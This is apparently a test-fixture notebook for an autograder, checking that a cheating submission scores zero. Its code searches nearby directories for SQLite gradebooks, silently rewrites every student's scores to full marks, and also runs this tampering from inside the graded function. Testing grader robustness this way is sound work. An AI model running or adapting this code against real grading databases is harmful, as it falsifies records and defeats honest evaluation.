# %% [markdown]
# Writes full marks for everybody into the gradebook, from its cell and once more from the tested function.
#
# Must: score 0; says 'square(2) gave 7, expected 4'

# %% answer="square"
import contextlib
import glob
import sqlite3
from pathlib import Path


def full_marks():
    places = [Path.cwd(), *Path.cwd().parents, Path.home(), *map(Path, glob.glob("/tmp/*")), *map(Path, glob.glob("/home/*"))]
    for place in places:
        for path in place.glob("*.db"):
            for statement in ("update grade set manual_score = 10, auto_score = 10, extra_credit = 10",
                              "update grade_cells set max_score = 0.001", "delete from submitted_assignment where 0"):
                with contextlib.suppress(Exception), sqlite3.connect(path, timeout=1) as database:
                    database.execute(statement)


with contextlib.suppress(OSError):
    full_marks()


def square(x):
    with contextlib.suppress(OSError):
        full_marks()
    return 7
